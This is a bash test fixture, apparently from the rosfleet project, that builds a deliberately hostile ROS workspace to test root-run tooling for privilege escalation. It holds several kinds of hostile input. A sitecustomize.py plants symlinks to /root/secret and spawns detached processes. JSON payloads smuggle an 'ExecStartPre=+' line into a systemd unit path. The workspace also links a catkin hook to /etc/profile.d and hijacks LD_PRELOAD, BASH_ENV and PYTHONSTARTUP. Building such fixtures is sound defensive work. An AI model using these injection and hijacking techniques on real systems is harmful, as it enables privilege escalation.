# shellcheck shell=bash
# SPDX-FileCopyrightText: rosfleet contributors
# SPDX-License-Identifier: GPL-3.0-or-later

# A person's workspace with a message package of its own, which also tries to become root. Read by the shell of that person.
# It is built on the ROS of the folder BELOW, as catkin does it.
# Usage: bash -s FOLDER BELOW < robbing.sh

set -eu
ws=$1 below=$2
mkdir -p "$ws/devel" "$ws/bin" "$ws/python/ws_msgs/msg" "$ws/etc/catkin"

# A message that no other package has.
: > "$ws/python/ws_msgs/__init__.py"
echo 'from ._Note import *' > "$ws/python/ws_msgs/msg/__init__.py"
sed 's/class String(/class Note(/; s/super(String, /super(Note, /; s/"std_msgs\/String"/"ws_msgs\/Note"/; s/std_msgs\.msg\.String/Note/' \
    /usr/lib/python3/dist-packages/std_msgs/msg/_String.py > "$ws/python/ws_msgs/msg/_Note.py"

# Whoever starts a Python with this workspace runs this: it notes who that was, leaves links where root may write, and a
# process that leaves its session.
cat > "$ws/python/sitecustomize.py" <<'END'
import os
import subprocess

try:
    open("/tmp/ran-as-%d" % os.getuid(), "w").close()
except OSError:
    pass
for folder in {os.environ.get(name, "/nowhere") for name in ("HOME", "ROS_HOME")}:
    for name in ("listener.py", "asked.py", "questions.json"):
        try:
            os.symlink("/root/secret", os.path.join(folder, name))
        except OSError:
            pass
if os.getuid() >= 60000:  # somebody without rights: nobody, or a user of systemd's
    subprocess.Popen(["setsid", "-f", "sleep", "73415"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
END

# A module that answers in the place of the program that imports it.
cat > "$ws/python/liar.py" <<'END'
import json
import os
import sys

LIES = {
    "a line of a unit": [{"package": "p", "executable": "e", "path": "/bin/sh\nExecStartPre=+/bin/touch /owned", "problem": ""}],
    "another user": [{"package": "p", "executable": "e", "path": "+/bin/sh", "problem": ""}],
    "other types": [{"package": "p", "executable": "e", "path": {"a": 1}, "problem": [2]}],
}
lie = os.environ["LIE"]
text = "[" * 100000 if lie == "nesting" else json.dumps(LIES[lie])
sys.stdout.write("\n" + text + "\n")
sys.stdout.flush()
os._exit(0)
END

# A link in the place where root puts a hook for catkin.
ln -sfn /etc/profile.d "$ws/etc/catkin/profile.d"

cat > "$ws/devel/setup.bash" <<END
. $below/setup.sh
export CMAKE_PREFIX_PATH=$ws:\$CMAKE_PREFIX_PATH MODEL=burger LIE='a line of a unit' ROS_ETC_DIR=$ws/etc
export PATH=./bin:$ws/bin:\$PATH PYTHONPATH=$ws/python:lib:\$PYTHONPATH
export LD_PRELOAD=$ws/evil.so BASH_ENV=$ws/bin/evil PYTHONSTARTUP=$ws/bin/evil
setsid -f sleep 73416
END
for lie in 'another user' 'other types' nesting; do
    echo ". $ws/devel/setup.bash; export LIE='$lie'" > "$ws/devel/${lie// /_}.bash"
done
